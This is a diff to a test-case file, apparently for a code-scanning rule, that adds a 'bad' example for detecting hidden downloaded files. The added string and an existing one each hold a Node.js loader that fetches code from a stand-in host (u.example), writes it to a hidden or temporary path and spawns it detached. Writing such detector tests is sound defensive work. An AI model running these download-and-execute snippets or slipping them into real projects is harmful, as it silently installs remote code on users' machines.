@@ -3,6 +3,10 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a hidden file whose path is put together twice',
+      code: "require('https').get('https://u.example/d', (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => { require('fs').writeFileSync(require('os').tmpdir() + '/.l.js', b); require('child_process').spawn(process.execPath, [require('os').tmpdir() + '/.l.js'], { detached: true }).unref(); }); });",
+    },
+    {
       name: 'a hidden file that an instance names',
       code: "const fs = require('fs'), cp = require('child_process');\nclass F { constructor() { this.bin = '/tmp/w'; } async pull() { fs.writeFileSync(this.bin, Buffer.from(await (await fetch('https://u.example/w')).arrayBuffer())); cp.spawn(this.bin, []); } }\nnew F().pull();",
     },
